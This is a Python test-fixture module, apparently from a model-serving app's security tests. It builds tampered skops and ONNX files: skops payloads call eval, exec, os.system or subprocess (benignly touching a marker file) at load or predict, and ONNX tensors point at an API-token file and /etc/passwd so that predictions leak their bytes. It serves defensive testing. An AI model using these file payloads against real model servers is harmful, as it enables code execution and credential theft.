"""Hostile skops and ONNX files, built from real models and then tampered with.

skops payloads run at load (a DictNode calls its key types on the keys, a
ConstructorFromReduceNode calls its class on its arguments) or at predict (a
FunctionTransformer calls its func); each would create `marker`. ONNX payloads point a
tensor at a file (the server's API token, /etc/passwd) so that onnxruntime would read it
as weights and a prediction would return its bytes.
"""

from __future__ import annotations

import io
import json
import operator
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

from models_app.tests.hostile import HostileFile

TOKEN = "../../var/api-token"
CWD_TOKEN = "var/api-token"  # where `make run` keeps the API token, relative to its cwd


# -- real models -------------------------------------------------------------------------

def _training_data() -> tuple[np.ndarray, np.ndarray]:
    rng = np.random.default_rng(11)
    features = rng.normal(size=(120, 4))
    return features, (features[:, 0] + features[:, 1] > 0).astype(int)


def _logistic() -> Any:
    from sklearn.linear_model import LogisticRegression

    return LogisticRegression().fit(*_training_data())


def _skops(obj: Any) -> bytes:
    import skops.io as sio

    return sio.dumps(obj)


def _onnx_model() -> Any:
    """A small MLP regressor in ONNX: its weights are graph initializers (MatMul, Add)."""
    import warnings

    from skl2onnx import to_onnx
    from sklearn.neural_network import MLPRegressor

    features, labels = _training_data()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # a few iterations only: convergence warnings
        model = MLPRegressor(hidden_layer_sizes=(8,), max_iter=50, random_state=0)
        model.fit(features, labels.astype(float))
    return to_onnx(model, features[:1].astype(np.float32))


# -- skops tampering ---------------------------------------------------------------------

def _rewrite(data: bytes, edit: Callable[[dict], None],
             extra: dict[str, bytes] | None = None) -> bytes:
    """The skops zip with schema.json edited in place (and members added)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    schema = json.loads(source.read("schema.json"))
    edit(schema)
    text = json.dumps(schema)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            if name != "schema.json" and f'"{name}"' in text:  # members the schema still uses
                target.writestr(name, source.read(name))
        target.writestr("schema.json", text)
        for name, content in (extra or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def _json(value: Any) -> dict:
    return {"__class__": type(value).__name__, "__module__": "builtins",
            "__loader__": "JsonNode", "content": json.dumps(value), "is_json": True}


def _key_call(module: str, name: str, argument: str) -> Callable[[dict], None]:
    """Add a key to the estimator's attributes whose key type is `module.name`: skops's
    DictNode rebuilds each key as key_type(key), so the function is called at load."""

    def edit(schema: dict) -> None:
        attrs = schema["content"]
        attrs["content"][argument] = _json(0)
        attrs["key_types"]["content"].append(
            {"__class__": name, "__module__": module, "__loader__": "TypeNode"}
        )

    return edit


def _function(module: str, name: str) -> Callable[[dict], None]:
    """Make a FunctionTransformer's func a function the file names (called at predict)."""

    def edit(schema: dict) -> None:
        transformer = schema["content"]["content"]["steps"]["content"][0]["content"][1]
        transformer["content"]["content"]["func"] = {
            "__class__": name, "__module__": module, "__loader__": "FunctionNode"}

    return edit


def _popen(marker: Path) -> Callable[[dict], None]:
    """Swap the model for a subprocess.Popen built from the file's arguments."""

    def edit(schema: dict) -> None:
        schema.update({
            "__class__": "Popen", "__module__": "subprocess",
            "__loader__": "ConstructorFromReduceNode",
            "content": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
                        "content": [{"__class__": "list", "__module__": "builtins",
                                     "__loader__": "ListNode",
                                     "content": [_json("touch"), _json(str(marker))]}]},
        })
        schema.pop("__id__", None)

    return edit


def _protocol(version: int) -> Callable[[dict], None]:
    def edit(schema: dict) -> None:
        schema["protocol"] = version

    return edit


class _Payload:
    """Pickled, it runs a shell command when unpickled."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        import os

        return os.system, (self.command,)


def _object_array_pickle(marker: Path) -> tuple[Callable[[dict], None], dict[str, bytes]]:
    """Point the coefficients at an .npy member whose object array holds a pickle."""
    buffer = io.BytesIO()
    np.save(buffer, np.array([_Payload(f"touch {marker}")], dtype=object), allow_pickle=True)

    def edit(schema: dict) -> None:
        schema["content"]["content"]["coef_"]["file"] = "payload.npy"

    return edit, {"payload.npy": buffer.getvalue()}


def _tree_tampered(data: bytes, edit: Callable[[np.ndarray], None]) -> bytes:
    """A random forest whose first tree's node array is edited (the nodes .npy member)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    schema = json.loads(source.read("schema.json"))
    stack, nodes_file = [schema], None
    while stack and nodes_file is None:
        item = stack.pop()
        if isinstance(item, dict):
            if item.get("__loader__") == "TreeNode":
                nodes_file = item["content"]["content"]["nodes"]["file"]
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)
    nodes = np.load(io.BytesIO(source.read(nodes_file)), allow_pickle=False)
    edit(nodes)
    buffer = io.BytesIO()
    np.save(buffer, nodes, allow_pickle=False)
    members = {name: source.read(name) for name in source.namelist()}
    members[nodes_file] = buffer.getvalue()
    return _zip(members)


def _child_out_of_bounds(nodes: np.ndarray) -> None:
    nodes["left_child"][0] = 50_000_000


def _child_cycle(nodes: np.ndarray) -> None:
    nodes["left_child"][0] = 0  # the root is its own child: predict never ends


def _forest() -> Any:
    from sklearn.ensemble import RandomForestClassifier

    return RandomForestClassifier(n_estimators=3, random_state=0).fit(*_training_data())


def _pipeline() -> Any:
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler

    features, labels = _training_data()
    return make_pipeline(FunctionTransformer(np.log1p), StandardScaler(),
                         LogisticRegression()).fit(np.abs(features), labels)


def _skops_files(marker: Path) -> list[tuple[str, bytes, str]]:
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler

    model = _skops(_logistic())
    pipeline = _skops(_pipeline())
    python = f"import pathlib; pathlib.Path({str(marker)!r}).touch()"
    array_edit, array_member = _object_array_pickle(marker)
    features, labels = _training_data()
    return [
        ("skops-key-type-builtins-eval",
         _rewrite(model, _key_call("builtins", "eval", f"exec({python!r})")),
         "a TypeNode names builtins.eval and a DictNode calls it on a key at load"),
        ("skops-key-type-os-system",
         _rewrite(model, _key_call("os", "system", f"touch {marker}")),
         "a TypeNode names os.system (a builtin function, stored as a type) called on a key"),
        ("skops-key-type-subprocess-getoutput",
         _rewrite(model, _key_call("subprocess", "getoutput", f"touch {marker}")),
         "a TypeNode names subprocess.getoutput, a shell, called on a key at load"),
        ("skops-key-type-sklearn-run-python-script",
         _rewrite(model, _key_call("sklearn.utils._testing",
                                   "assert_run_python_script_without_output", python)),
         "a scikit-learn function passes a 'sklearn' prefix rule and runs Python source"),
        ("skops-function-numpy-load",
         _rewrite(pipeline, _function("numpy", "load")),
         "numpy.load passes a 'numpy' prefix rule: a function that reads server files"),
        ("skops-function-numpy-testing-runstring",
         _rewrite(pipeline, _function("numpy.testing._private.utils", "runstring")),
         "a numpy.testing function that exec()s its argument, admitted by a 'numpy' prefix"),
        ("skops-function-builtins-exec",
         _rewrite(pipeline, _function("builtins", "exec")),
         "a FunctionNode for builtins.exec as a FunctionTransformer's func"),
        ("skops-method-node",
         _skops(make_pipeline(FunctionTransformer(StandardScaler().fit(features).transform),
                              _logistic()).fit(features, labels)),
         "a MethodNode (sklearn...StandardScaler.transform) passes a prefix rule; methods "
         "are callables chosen by the file"),
        ("skops-operator-methodcaller-tofile",
         _skops(make_pipeline(FunctionTransformer(operator.methodcaller("tofile", str(marker))),
                              _logistic())),
         "an operator.methodcaller makes predict call X.tofile(marker)"),
        ("skops-schema-tampered-popen",
         _rewrite(model, _popen(marker)),
         "schema.json swapped for subprocess.Popen(['touch', marker]), built at load"),
        ("skops-schema-protocol-downgrade",
         _rewrite(model, _protocol(0)),
         "schema.json claims protocol 0, whose node classes audit less"),
        ("skops-zip-embeds-pickle",
         _rewrite(model, lambda schema: None,
                  {"model.pkl": pickle.dumps(_Payload(f"touch {marker}"))}),
         "a pickle rides in the zip beside a benign schema, for a loader that looks for it"),
        ("skops-npy-object-array-pickle",
         _rewrite(model, array_edit, array_member),
         "an array member holds an object array, that is a pickle inside the .npy"),
        ("skops-tree-child-out-of-bounds", _tree_tampered(_skops(_forest()),
                                                           _child_out_of_bounds),
         "a forest whose tree points past its node array: scikit-learn reads out of bounds"),
        ("skops-tree-cycle", _tree_tampered(_skops(_forest()), _child_cycle),
         "a forest whose root is its own child: predict loops forever"),
        ("skops-truncated", model[: len(model) // 2],
         "half a skops file: not a readable artifact"),
        ("skops-zip-without-schema",
         _zip({"model.pkl": pickle.dumps(_Payload(f"touch {marker}"))}),
         "a zip that is not a skops file (no schema.json), carrying a pickle"),
    ]


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name, content in members.items():
            target.writestr(name, content)
    return out.getvalue()


# -- ONNX tampering ----------------------------------------------------------------------

def _externalize(tensor: Any, location: str) -> None:
    """Move a tensor's values to `location` as external data (what save_as_external_data
    writes), so a runtime reads the weights from that file."""
    from onnx import TensorProto

    length = len(tensor.raw_data) or 4 * max(1, len(tensor.float_data))
    for field in ("raw_data", "float_data"):
        tensor.ClearField(field)
    del tensor.external_data[:]
    for key, value in (("location", location), ("offset", "0"), ("length", str(length))):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    tensor.data_location = TensorProto.EXTERNAL


def _float_tensor(name: str, values: list[float]) -> Any:
    from onnx import numpy_helper

    return numpy_helper.from_array(np.asarray(values, dtype=np.float32), name)


def _with_initializer(location: str) -> Any:
    model = _onnx_model()
    _externalize(model.graph.initializer[0], location)
    return model


def _with_constant_node(location: str) -> Any:
    """A Constant node whose value attribute is external, its output a graph output."""
    from onnx import helper

    model = _onnx_model()
    value = _float_tensor("leak", [0.0] * 16)
    _externalize(value, location)
    model.graph.node.append(helper.make_node("Constant", [], ["leak"], value=value))
    model.graph.output.append(helper.make_tensor_value_info("leak", 1, [16]))
    return model


def _with_subgraph(location: str) -> Any:
    """An If whose then-branch returns an external initializer."""
    from onnx import helper

    model = _onnx_model()
    leak = _float_tensor("leak_then", [0.0] * 16)
    _externalize(leak, location)
    then_branch = helper.make_graph(
        [helper.make_node("Identity", ["leak_then"], ["leak_out"])], "then",
        [], [helper.make_tensor_value_info("leak_out", 1, [16])], initializer=[leak])
    else_branch = helper.make_graph(
        [helper.make_node("Constant", [], ["zeros_out"], value=_float_tensor("z", [0.0] * 16))],
        "else", [], [helper.make_tensor_value_info("zeros_out", 1, [16])])
    model.graph.node.append(helper.make_node(
        "Constant", [], ["always"], value=helper.make_tensor("t", 9, [], [True])))
    model.graph.node.append(helper.make_node("If", ["always"], ["leak"],
                                             then_branch=then_branch, else_branch=else_branch))
    model.graph.output.append(helper.make_tensor_value_info("leak", 1, [16]))
    return model


def _with_sparse_initializer(location: str) -> Any:
    from onnx import helper

    model = _onnx_model()
    values = _float_tensor("sparse_leak", [0.0] * 4)
    _externalize(values, location)
    indices = helper.make_tensor("sparse_leak_idx", 7, [4], [0, 1, 2, 3])
    model.graph.sparse_initializer.append(helper.make_sparse_tensor(values, indices, [16]))
    return model


def _with_external_entries_only(location: str) -> Any:
    """external_data entries without data_location=EXTERNAL: some readers follow either."""
    from onnx import TensorProto

    model = _onnx_model()
    tensor = model.graph.initializer[0]
    entry = tensor.external_data.add()
    entry.key, entry.value = "location", location
    tensor.data_location = TensorProto.DEFAULT
    return model


def _with_function(location: str) -> Any:
    """A model-local function whose Constant node reads an external file."""
    from onnx import helper

    model = _onnx_model()
    value = _float_tensor("fleak", [0.0] * 16)
    _externalize(value, location)
    function = helper.make_function(
        "axion.evil", "Leak", [], ["out"],
        [helper.make_node("Constant", [], ["out"], value=value)],
        [helper.make_opsetid("", 17)])
    model.functions.append(function)
    model.opset_import.append(helper.make_opsetid("axion.evil", 1))
    model.graph.node.append(helper.make_node("Leak", [], ["leak"], domain="axion.evil"))
    model.graph.output.append(helper.make_tensor_value_info("leak", 1, [16]))
    return model


def _onnx_files() -> list[tuple[str, bytes, str]]:
    files = [
        ("onnx-initializer-external-api-token", _with_initializer(TOKEN),
         "a weight initializer read from ../../var/api-token, relative to the server's cwd"),
        ("onnx-initializer-external-absolute", _with_initializer("/etc/passwd"),
         "a weight initializer read from an absolute path"),
        ("onnx-subgraph-external", _with_subgraph(CWD_TOKEN),
         "an If's then-branch holds an external initializer (var/api-token), returned as an "
         "output"),
        ("onnx-node-attribute-external", _with_constant_node(CWD_TOKEN),
         "a Constant node's value tensor is var/api-token: predictions carry the token"),
        ("onnx-sparse-initializer-external", _with_sparse_initializer("/etc/hostname"),
         "a sparse initializer's values are external data"),
        ("onnx-external-entries-only", _with_external_entries_only(TOKEN),
         "external_data entries with the default data location"),
        ("onnx-function-external", _with_function(TOKEN),
         "a model-local function's Constant node reads an external file"),
    ]
    raw = [(name, model.SerializeToString(), cause) for name, model, cause in files]
    raw += [
        ("onnx-pickle-declared-as-onnx", pickle.dumps(_logistic()),
         "a pickle declared as ONNX: not a readable ONNX model"),
        ("onnx-random-bytes", np.random.default_rng(5).bytes(4096),
         "random bytes declared as ONNX"),
        ("onnx-text", b"ir_version: 8\ngraph { name: 'g' }\n",
         "text, not a serialized ModelProto"),
    ]
    return raw


def build(directory: Path, marker: Path) -> list[HostileFile]:
    folder = directory / "formats"
    folder.mkdir(parents=True, exist_ok=True)
    files = []
    for fmt, framework, items in (("skops", "sklearn", _skops_files(marker)),
                                  ("onnx", "onnx", _onnx_files())):
        for name, content, cause in items:
            path = folder / f"{name}.{fmt}"
            path.write_bytes(content)
            files.append(HostileFile(name=name, artifact_format=fmt, framework=framework,
                                     path=path, cause=cause))
    return files
